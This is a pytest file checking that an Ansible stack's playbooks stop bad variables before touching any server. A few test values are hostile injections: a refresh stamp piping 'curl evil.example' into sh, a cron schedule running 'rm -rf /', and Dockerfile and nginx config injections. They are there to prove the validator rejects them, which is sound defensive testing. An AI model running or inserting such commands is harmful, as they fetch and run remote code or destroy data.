"""Bad input stops site.yml in its first play, names the variable and the fix, and no server is touched."""
import pytest
from conftest import assert_stopped_in_validation

VALID_USERS = [{"name": "anna.k", "admin": True, "postgres": True}, {"name": "bi"}]

BAD_INPUTS = {
    "unknown base image source": (
        {"vixtract_base_image_source": "bogus"},
        "value of vixtract_base_image_source must be one of: pull, archive, debootstrap, got: bogus"),
    "unknown install method": (
        {"docker_host_install_method": "snap"},
        "value of docker_host_install_method must be one of: distro, docker-ce, none, got: snap"),
    "CA file that does not exist": (
        {"vixtract_extra_ca_certificates": ["/nonexistent/proxy-ca.pem"]},
        "vixtract_extra_ca_certificates: '/nonexistent/proxy-ca.pem' is not a PEM certificate file"),
    "user name with a space and capitals": (
        {"vixtract_users": [{"name": "Bad Name"}]},
        "vixtract_users: the user 'Bad Name' is not a valid login name. Use 2-32 characters"),
    "two users with the same name": (
        {"vixtract_users": [{"name": "anna.k"}, {"name": "bi"}, {"name": "anna.k", "admin": True}]},
        "vixtract_users lists 'anna.k' more than once. Fix: keep one entry per person"),
    "user state that is not present or absent": (
        {"vixtract_users": [{"name": "bi", "state": "gone"}]},
        "value of state must be one of: present, absent, got: gone"),
    "archive source without an archive": (
        {"vixtract_base_image_source": "archive"},
        "vixtract_base_image_archive must name an existing `docker save` tarball"),
    "negative number of kept images": (
        {"vixtract_image_keep": -1},
        'vixtract_image_keep must be a whole number (0 or more) of superseded images each server keeps for a rollback '
        '(got "-1")'),
    "unknown image refresh period": (
        {"vixtract_image_refresh": "hourly"},
        "value of vixtract_image_refresh must be one of: never, daily, weekly, monthly, got: hourly"),
    "refresh stamp that would add a command to every image build": (
        {"vixtract_image_refresh_stamp": "x' && curl evil.example | sh #"},
        "vixtract_image_refresh_stamp must be up to 64 letters, digits or ':._-' (it names a refresh in every image; "
        'got "x\' && curl evil.example | sh #")'),
    "metrics network without a prefix": (
        {"vixtract_metrics_allow": ["10.0.0.5"]},
        'vixtract_metrics_allow: "10.0.0.5" is not a CIDR. Fix: the network of your Prometheus'),
    "metrics network that would inject nginx configuration": (
        {"vixtract_metrics_allow": ["10.0.0.0/8; allow all"]},
        'vixtract_metrics_allow: "10.0.0.0/8; allow all" is not a CIDR'),
    "image cache that is a relative path": (
        {"vixtract_image_cache_dir": "cache/images"},
        "vixtract_image_cache_dir must be an absolute directory path on the controller"),
    "proxy that is not a URL": (
        {"vixtract_https_proxy": "proxy.example.com:3128"},
        'vixtract_https_proxy "proxy.example.com:3128" must be empty or a URL'),
    "address pool that is not a CIDR": (
        {"docker_host_default_address_pools": [{"base": "172.30.0.0", "size": 24}]},
        "docker_host_default_address_pools: base '172.30.0.0' with size 24 is not usable"),
}


@pytest.mark.parametrize("case", sorted(BAD_INPUTS))
def test_bad_input_stops_in_the_validation_play(run_site, case):
    extra_vars, message = BAD_INPUTS[case]
    rc, out = run_site(extra_vars)
    assert_stopped_in_validation(rc, out, message)


def test_valid_input_passes_validation_and_only_then_reaches_for_the_server(run_site, tmp_path):
    """The same harness with good input: validation passes, then the first play that contacts the server (the
    sources check) tries the closed port. Names with dots and of two characters are accepted."""
    ca = tmp_path / "proxy-ca.pem"
    ca.write_text("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
    rc, out = run_site({"vixtract_users": VALID_USERS, "vixtract_extra_ca_certificates": [str(ca)]})
    check_play = out.find("PLAY [Check from each server that the sources the run needs answer, and the data it holds]")
    assert check_play > 0, out
    assert out.find("UNREACHABLE") > check_play, out
    assert "UNREACHABLE" not in out[:check_play], out
    assert rc != 0


def test_the_sources_check_can_be_switched_off(run_site):
    """vixtract_check_sources: false: the sources are not asked for; the server is still read, before any change,
    for the PostgreSQL data it holds (its major version against postgres_version)."""
    rc, out = run_site({"vixtract_users": VALID_USERS, "vixtract_check_sources": False})
    sources = out.find("TASK [vixtract.stack.vixtract : Ask for the sources this server needs]")
    assert sources > 0, out
    assert out[sources:].split("TASK [", 2)[1].strip().splitlines()[-1] == "skipping: [server]", out[sources:]
    data = out.find("TASK [vixtract.stack.postgres : Find the data directory's volume]")
    assert data > sources, out
    assert "UNREACHABLE" not in out[:data] and "UNREACHABLE" in out[data:].split("TASK [", 2)[1], out[data:]
    # the server is out of the run from there: no play after validation touches it
    assert "TASK [" not in out.split("PLAY [Docker Engine on every server]", 1)[-1], out
    assert rc != 0


@pytest.mark.parametrize("confirm", [None, "yes", "delete all data "], ids=["missing", "yes", "trailing space"])
def test_a_purge_without_its_second_key_stops_the_uninstall_before_it_reaches_a_server(run_site, confirm):
    extra = {"vixtract_purge": True, **({"vixtract_purge_confirm": confirm} if confirm is not None else {})}
    rc, out = run_site(extra, playbook="playbooks/uninstall.yml")
    assert rc != 0, out
    assert "To do it, also set vixtract_purge_confirm='delete all data'" in out, out
    assert "PLAY [Remove the components]" not in out, out
    assert "UNREACHABLE" not in out, out


def test_a_confirmed_purge_passes_validation_and_the_uninstall_asks_no_source(run_site):
    """With both keys the uninstall goes on to the server (the closed port); it skips the sources check, as it
    downloads nothing."""
    rc, out = run_site({"vixtract_purge": True, "vixtract_purge_confirm": "delete all data"},
                       playbook="playbooks/uninstall.yml")
    removal = out.find("PLAY [Remove the components]")
    assert removal > 0, out
    assert out.find("UNREACHABLE") > removal, out
    assert "UNREACHABLE" not in out[:removal], out
    assert rc != 0


# Backups hold every password hash, key and notebook: they never land where a container, a user or the roles'
# own rewrites reach, and the schedule never becomes more than cron's time fields
BAD_BACKUP_SETTINGS = {
    "relative backup dir": ({"vixtract_backup_dir": "backups"}, "vixtract_backup_dir 'backups' must be an absolute"),
    "backup dir in a Docker volume": (
        {"vixtract_backup_dir": "/var/lib/docker/volumes/vixtract-jupyterhub-home/_data/x"},
        "outside Docker's data (/var/lib/docker)"),
    "backup dir in the stack's directory": ({"vixtract_backup_dir": "/opt/vixtract/backups"},
                                            "vixtract_backup_dir '/opt/vixtract/backups' must be"),
    "backup dir climbing out": ({"vixtract_backup_dir": "/srv/backups/../../opt/vixtract"},
                                "vixtract_backup_dir '/srv/backups/../../opt/vixtract' must be"),
    "backup dir with a double slash": ({"vixtract_backup_dir": "/var/lib//docker/x"},
                                       "vixtract_backup_dir '/var/lib//docker/x' must be"),
    "backup dir in /tmp": ({"vixtract_backup_dir": "/tmp/backups"}, "vixtract_backup_dir '/tmp/backups' must be"),
    "backup dir that is /etc": ({"vixtract_backup_dir": "/etc"}, "vixtract_backup_dir '/etc' must be"),
    "backup dir that is the root": ({"vixtract_backup_dir": "/"}, "vixtract_backup_dir '/' must be"),
    "backup dir with a space": ({"vixtract_backup_dir": "/srv/my backups"}, "vixtract_backup_dir '/srv/my backups'"),
    "keep zero backups": ({"vixtract_backup_keep": 0}, "vixtract_backup_keep must be a whole number of at least 1"),
    "keep a word": ({"vixtract_backup_keep": "all"},
                    "argument 'vixtract_backup_keep' is of type str and we were unable to convert to int"),
    "schedule with a command": ({"vixtract_backup_schedule": "* * * * * root rm -rf /"},
                                'vixtract_backup_schedule empty, @daily'),
    "schedule with a second line": ({"vixtract_backup_schedule": "30 2 * * *\n* * * * * root id"},
                                    "vixtract_backup_schedule empty, @daily"),
    "schedule with four fields": ({"vixtract_backup_schedule": "30 2 * *"}, "vixtract_backup_schedule empty"),
    "relative copy dir": ({"vixtract_backup_copy_dir": "copies"}, 'vixtract_backup_copy_dir empty or an absolute'),
}


# every case through site.yml; backup.yml validates the same way (two cases through it)
@pytest.mark.parametrize("case, playbook", [(case, "playbooks/site.yml") for case in sorted(BAD_BACKUP_SETTINGS)]
                         + [("backup dir in a Docker volume", "playbooks/backup.yml"),
                            ("schedule with a command", "playbooks/backup.yml")])
def test_bad_backup_settings_stop_before_any_server_is_touched(run_site, case, playbook):
    extra_vars, message = BAD_BACKUP_SETTINGS[case]
    rc, out = run_site({"vixtract_users": VALID_USERS, **extra_vars}, playbook=playbook)
    assert_stopped_in_validation(rc, out, message)


def test_good_backup_settings_pass_validation(run_site):
    rc, out = run_site({"vixtract_users": VALID_USERS, "vixtract_backup_dir": "/srv/backups/vixtract",
                        "vixtract_backup_keep": 3, "vixtract_backup_schedule": "30 2 * * 1-5",
                        "vixtract_backup_copy_dir": "/srv/copies"}, playbook="playbooks/backup.yml")
    backup_play = out.find("PLAY [Back up every server]")
    assert backup_play > 0, out
    assert "UNREACHABLE" not in out[:backup_play], out
    assert rc != 0


BAD_HEALTH_SETTINGS = {
    "disk percent 100": ({"vixtract_health_disk_percent": 100},
                         'vixtract_health_disk_percent a percentage from 1 to 99 (got "100")'),
    "disk percent 0": ({"vixtract_health_disk_percent": 0}, 'a percentage from 1 to 99 (got "0")'),
    "negative certificate days": ({"vixtract_health_cert_days": -5}, 'vixtract_health_cert_days a whole number of '
                                                                     'days (got "-5")'),
    "job hours 0": ({"vixtract_health_job_hours": 0}, 'whole numbers of hours, at least 1 (got "0" and "36")'),
    "backup hours a word": ({"vixtract_health_backup_hours": "daily"},
                            "argument 'vixtract_health_backup_hours' is of type str and we were unable to convert"),
}


@pytest.mark.parametrize("case", sorted(BAD_HEALTH_SETTINGS))
def test_bad_health_thresholds_stop_health_yml_before_any_server_is_asked(run_site, case):
    extra_vars, message = BAD_HEALTH_SETTINGS[case]
    rc, out = run_site({"vixtract_users": VALID_USERS, **extra_vars}, playbook="playbooks/health.yml")
    assert_stopped_in_validation(rc, out, message)
    assert "PLAY [Health of every server]" not in out


def test_good_health_thresholds_pass_validation_and_reach_for_the_servers(run_site):
    rc, out = run_site({"vixtract_users": VALID_USERS, "vixtract_health_disk_percent": 95,
                        "vixtract_health_cert_days": 0, "vixtract_health_job_hours": 1,
                        "vixtract_health_backup_hours": 26}, playbook="playbooks/health.yml")
    health_play = out.find("PLAY [Health of every server]")
    assert health_play > 0, out
    assert "UNREACHABLE" not in out[:health_play], out
    assert rc != 0


def test_refresh_yml_with_a_bad_stamp_stops_before_any_server_is_asked(run_site):
    rc, out = run_site({"vixtract_users": VALID_USERS, "vixtract_image_refresh_stamp": "now\nRUN id"},
                       playbook="playbooks/refresh.yml")
    assert_stopped_in_validation(rc, out, "vixtract_image_refresh_stamp must be up to 64 letters")


def test_only_a_run_that_may_run_the_postgres_role_reads_the_postgresql_data(run_site):
    """The data check (PG_VERSION against postgres_version) is for the postgres role: --tags nginx skips it, --tags
    postgres and an untagged run read it, before any change."""
    read = "TASK [vixtract.stack.postgres : Find the data directory's volume]"
    for tags, reads in (("nginx", False), ("postgres", True), (None, True)):
        rc, out = run_site({"vixtract_users": VALID_USERS, "vixtract_check_sources": False}, tags=tags)
        assert rc != 0, out
        assert (read in out) is reads, (tags, out[-3000:])
        if reads:
            assert "UNREACHABLE" not in out[:out.find(read)], out


def test_refresh_yml_stamps_every_server_alike_then_deploys(run_site):
    rc, out = run_site({"vixtract_users": VALID_USERS, "vixtract_check_sources": False},
                       playbook="playbooks/refresh.yml")
    assert "PLAY [One refresh stamp for every server]" in out, out
    # then site.yml: its first contact with the server is the read of the PostgreSQL data, before any change
    deploy = out.find("TASK [vixtract.stack.postgres : Find the data directory's volume]")
    assert deploy > out.find("PLAY [One refresh stamp for every server]"), out
    assert "UNREACHABLE" not in out[:deploy] and "UNREACHABLE" in out[deploy:], out
    assert rc != 0


@pytest.mark.parametrize("extra, message", [
    ({}, "vixtract_restore_backup must name the backup to restore"),
    ({"vixtract_restore_backup": "yesterday"}, 'vixtract_restore_backup must name the backup to restore'),
    ({"vixtract_restore_backup": "../20261202T155120Z"}, "vixtract_restore_backup must name the backup"),
    ({"vixtract_restore_backup": "latest", "vixtract_restore_dir": "copies"},
     'vixtract_restore_dir empty (the servers\' own backups) or an absolute controller path (got "copies")'),
], ids=["missing", "a word", "a path", "relative restore dir"])
def test_a_restore_without_a_backup_to_restore_stops_before_any_server_is_touched(run_site, extra, message):
    rc, out = run_site({"vixtract_users": VALID_USERS, **extra}, playbook="playbooks/restore.yml")
    assert_stopped_in_validation(rc, out, message)
    assert "PLAY [Find the backup of each server" not in out
